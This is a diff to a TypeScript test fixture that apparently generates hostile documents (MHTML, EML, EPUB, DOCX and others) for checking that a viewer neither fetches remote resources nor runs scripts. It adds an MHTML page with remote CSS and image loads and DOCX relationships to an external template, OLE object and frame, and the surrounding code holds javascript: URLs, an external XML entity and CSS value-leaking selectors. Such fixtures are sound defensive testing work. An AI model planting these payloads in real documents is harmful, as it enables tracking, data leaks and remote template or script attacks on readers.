@@ -2,11 +2,12 @@
 // out of their place. What a script among them would do is set `window.__ran`; what is fetched is counted at the address.
 
 import { bookOf } from './epub-files.ts';
-import { htmlMessage } from './email-files.ts';
+import { crlf, htmlMessage } from './email-files.ts';
 import { hostilePage } from './hostile-page.ts';
 import { fodtOf, odtOf } from './odt-files.ts';
 import { docxOf } from './office-files.ts';
 import { rawPages } from './pdf-files.ts';
+import type { ZipEntry } from './zip-writer.ts';
 
 export interface AttackFile {
   readonly name: string;
@@ -48,6 +49,44 @@ input[value^="a"]{background:image-set(url(${address}/leak.png) 1x)}</style>
 <embed src="${address}/embed"><track src="${address}/track.vtt"><table background="${address}/table.png"><tr><td>cell</td></tr></table>
 <blockquote cite="javascript:${run}">quoted</blockquote><button formaction="javascript:${run}">press</button>`;
 
+/** As a browser saves a page, with a picture that it names but does not hold. */
+const savedPage = (page: string, address: string): string =>
+  crlf(
+    'From: <Saved by Blink>',
+    `Snapshot-Content-Location: ${address}/saved.html`,
+    'Subject: Saved',
+    'MIME-Version: 1.0',
+    'Content-Type: multipart/related; type="text/html"; boundary="----Boundary7----"',
+    '',
+    '------Boundary7----',
+    'Content-Type: text/html; charset=utf-8',
+    'Content-Transfer-Encoding: base64',
+    `Content-Location: ${address}/saved.html`,
+    '',
+    Buffer.from(page).toString('base64').replace(/.{76}/g, '$&\r\n'),
+    '------Boundary7----',
+    'Content-Type: text/css',
+    `Content-Location: ${address}/style.css`,
+    '',
+    `@import "${address}/saved.css"; body { background: url(${address}/saved.png) }`,
+    '------Boundary7------',
+    '',
+  );
+
+/** What Word would fetch when it opens the document: its template, a picture that is only linked, a frame. */
+const wordParts = (address: string): readonly ZipEntry[] => {
+  const kinds = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+  const relation = (id: string, kind: string) =>
+    `<Relationship Id="${id}" Type="${kinds}/${kind}" Target="${address}/${kind}" TargetMode="External"/>`;
+  const all = ['attachedTemplate', 'image', 'frame', 'oleObject', 'subDocument'];
+  return [
+    {
+      name: 'word/_rels/settings.xml.rels',
+      content: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${all.map((kind, at) => relation(`rId${at}`, kind)).join('')}</Relationships>`,
+    },
+  ];
+};
+
 export function attackFiles(address: string): readonly AttackFile[] {
   const page = hostilePage(address).replace('</article>', `${remotePieces(address)}</article>`);
   const entity = `<!DOCTYPE x [<!ENTITY e SYSTEM "${address}/entity">]>`;
@@ -70,6 +109,7 @@ export function attackFiles(address: string): readonly AttackFile[] {
       bytes: utf8(`# A list\n\nshownWord\n\n${markdown.join('\n')}\n${remotePieces(address)}`),
     },
     { name: 'attack.txt', bytes: utf8(`shownWord\n\n${attackWords(address).join('\n\n')}`) },
+    { name: 'attack.mhtml', bytes: utf8(savedPage(page, address)) },
     { name: 'attack.eml', bytes: utf8(htmlMessage(`${page}<img src="cid:one@example.org">`)) },
     {
       name: 'attack.epub',
@@ -85,6 +125,7 @@ export function attackFiles(address: string): readonly AttackFile[] {
       bytes: docxOf({
         body: docx,
         links: { rId7: `${address}/docx-link`, rId8: `javascript:${run}` },
+        extra: wordParts(address),
       }),
     },
     {
